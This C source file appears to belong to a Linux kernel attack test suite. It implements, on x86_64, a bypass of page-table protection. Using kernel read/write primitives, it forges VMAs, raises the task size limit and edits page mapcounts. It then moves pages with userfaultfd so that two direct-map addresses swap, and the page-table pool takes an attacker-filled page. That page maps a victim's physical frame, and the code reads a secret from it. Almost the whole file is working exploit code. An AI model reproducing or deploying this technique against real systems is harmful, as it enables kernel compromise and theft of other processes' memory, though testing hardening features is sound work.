// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel finds a page table by its address in the direct map, and a CPU finds it
 * by its number. Here two pages have exchanged their addresses before the pool takes
 * them: what is one table to the kernel is another page to CPUs.
 */
#include <fcntl.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "chunk.h"
#include "direct_map.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define PAGES_PART	0x54
#define SPARE_PART	0x55
#define TABLES_PART	0x56
#define NR_PAGES	16384
#define STILL_HELD	32	/* of the last ones, before they are on a list of their own */
#define TABLES		1024

int faults;

/* So that what splits the entry of one of them in the direct map does it for all. */
bool find_chunks(struct chunk *chunk, int nr)
{
	volatile char *at = map_small_pages(PAGES_PART, NR_PAGES * PAGE_SIZE);
	struct slot slot;
	int i, found = 0;

	for (i = 0; at && i < NR_PAGES; i++)
		at[i * PAGE_SIZE] = 1;
	for (i = 0; at && found < nr && i < NR_PAGES - STILL_HELD; i++) {
		if (!is_chunk(at + i * PAGE_SIZE, &slot))
			continue;
		chunk[found] = (struct chunk){ at + i * PAGE_SIZE, slot.phys, slot.page, NULL };
		i += CHUNK_PAGES - 1;
		if (chunk[found].phys / PMD_SIZE != chunk[0].phys / PMD_SIZE) {
			chunk[0] = chunk[found];
			found = 0;
		}
		found++;
	}
	for (i = 0; found == nr && i < nr; i++)
		hold_pages(chunk[i].page, CHUNK_PAGES);
	return found == nr;
}

bool open_faults(volatile char *spare)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register range = {
		.range = { (uint64_t)spare, 2 * PMD_SIZE },
		.mode = UFFDIO_REGISTER_MODE_MISSING,
	};

	faults = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
	return faults >= 0 && !ioctl(faults, UFFDIO_API, &api) &&
	       !ioctl(faults, UFFDIO_REGISTER, &range);
}

/* With one more mapping, of the kernel's address, which is one of the two. */
static bool move(volatile char *like, uint64_t entry, uint64_t kernel, uint64_t to, uint64_t from)
{
	uint64_t vma = forge_vma(like, kernel, kread64(find_vma(like) + VMA_PROT));
	struct uffdio_move move = { .dst = to, .src = from, .len = PAGE_SIZE };
	int err;

	if (!vma)
		return false;
	kwrite64(entry, vma);
	err = ioctl(faults, UFFDIO_MOVE, &move);
	kwrite64(entry, 0);
	return !err;
}

uint64_t direct_address(const struct chunk *chunk)
{
	return direct_map_base() + chunk->phys + MOVED * PAGE_SIZE;
}

/* What each page is mapped by is one more than its count says. */
void count_twice(const struct chunk *chunk)
{
	uint64_t page = chunk->page + MOVED * STRUCT_PAGE;
	int mapped;

	kread(page + PAGE_MAPCOUNT, &mapped, sizeof(mapped));
	kwrite(page + PAGE_MAPCOUNT, &(int){ mapped + 1 }, sizeof(mapped));
}

static bool exchange(struct chunk *a, struct chunk *b, uint64_t entry)
{
	uint64_t at_a = direct_address(a), at_b = direct_address(b);

	return move(a->spare, entry, at_a, (uint64_t)a->spare, at_a) &&
	       move(a->spare, entry, at_b, (uint64_t)b->spare, at_b) &&
	       move(a->spare, entry, at_a, at_a, (uint64_t)b->at + MOVED * PAGE_SIZE) &&
	       move(a->spare, entry, at_b, at_b, (uint64_t)a->at + MOVED * PAGE_SIZE);
}

/* Behind it the kernel takes no address from a system call. */
uint64_t find_task_size(uint64_t mm)
{
	uint64_t at = find_word(mm, MM_SIZE, (1UL << 47) - PAGE_SIZE);

	return at ?: find_word(mm, MM_SIZE, (1UL << 56) - PAGE_SIZE);
}

static bool exchange_addresses(struct chunk *a, struct chunk *b)
{
	uint64_t entry, size, old, limit, vma_a = find_vma(a->at), vma_b = find_vma(a->spare);
	struct task task;
	bool done;

	if (ktask(0, &task) || !vma_a || !vma_b)
		return false;
	entry = find_empty_entry(task.mm, direct_address(a));
	size = find_task_size(task.mm);
	if (!entry || !size)
		return false;
	count_twice(a);
	count_twice(b);
	old = kread64(vma_a + VMA_PROT);
	limit = kread64(size);
	kwrite64(vma_a + VMA_PROT, PTE_KERNEL_RW);
	kwrite64(vma_b + VMA_PROT, PTE_KERNEL_RW);
	kwrite64(size, -PAGE_SIZE);
	done = exchange(a, b, entry);
	kwrite64(size, limit);
	kwrite64(vma_a + VMA_PROT, old);
	kwrite64(vma_b + VMA_PROT, old);
	/* They are user space's again. */
	mprotect((void *)a->spare, 2 * PMD_SIZE - PAGE_SIZE, PROT_READ);
	mprotect((void *)a->spare, 2 * PMD_SIZE - PAGE_SIZE, PROT_READ | PROT_WRITE);
	return done;
}

/* What the attacker leaves in the page that CPUs will walk. */
static void fill(volatile char *page)
{
	size_t i;

	for (i = 0; i < PAGE_SIZE / sizeof(uint64_t); i++)
		((volatile uint64_t *)page)[i] = (victim_phys() & -PAGE_SIZE) | PTE_USER_RW;
}

/* Nobody maps it any more; it is said to be free, which its owner could have it be. */
static int give_away(struct chunk *chunk)
{
	munmap((void *)chunk->at, CHUNK_SIZE);
	if (chunk->spare)
		munmap((void *)chunk->spare, PAGE_SIZE);
	return put_on_free_list(chunk->page, CHUNK_ORDER);
}

static enum outcome take_tables(struct chunk *a, struct chunk *b, volatile char *base, int *next)
{
	uint64_t walked = b->phys + MOVED * PAGE_SIZE;
	volatile char *found;
	char text[SECRET_SIZE] = "";
	int err;

	err = give_away(a);
	spend_tables(base, TABLES, next, walked);
	if (frame_of(walked) == FRAME_ORDINARY)
		return lost("the pool did not take the first pages (error %d)", err);
	err = give_away(b);
	found = spend_tables(base, TABLES, next, 0);
	if (!found)
		return lost("none of %d tables is what user space wrote (error %d)", *next, err);
	strncpy(text, (const char *)found, sizeof(text) - 1);
	return judge_secret(text, err);
}

/* The pool takes the first pages as they are, and splits what maps the others, too. */
static bool split_direct_map(struct chunk *first, volatile char *base, int *next)
{
	struct slot slot;

	use_up_blocks();
	first->spare = NULL;
	if (give_away(first))
		return false;
	spend_tables(base, TABLES, next, first->phys);
	return !kwalk(direct_map_base() + first->phys, LEAF, 0, &slot) && slot.level == LEVEL_PTE;
}

enum outcome direct_map_moved(void)
{
	volatile char *base, *spare;
	struct chunk chunk[3];
	int next = 0;

	if (!is_protected())
		return user_pte();
	stay_on_cpu(0);
	base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
	spare = map_small_pages(SPARE_PART, 2 * PMD_SIZE);
	if (!base || !spare || !find_chunks(chunk, 3))
		return broken("no pages in a row");
	*spare = 1;
	chunk[1].spare = spare + PAGE_SIZE;
	chunk[2].spare = spare + PMD_SIZE;
	if (!open_faults(spare))
		return broken("no userfaultfd");
	if (!split_direct_map(&chunk[0], base, &next))
		return broken("no entries of single pages in the direct map");
	if (!exchange_addresses(&chunk[1], &chunk[2]))
		return lost("the pages did not exchange their addresses");
	fill(chunk[2].spare);
	return take_tables(&chunk[1], &chunk[2], base, &next);
}
#else
enum outcome direct_map_moved(void)
{
	return skipped("a process has no tables of kernel addresses on this architecture");
}
#endif
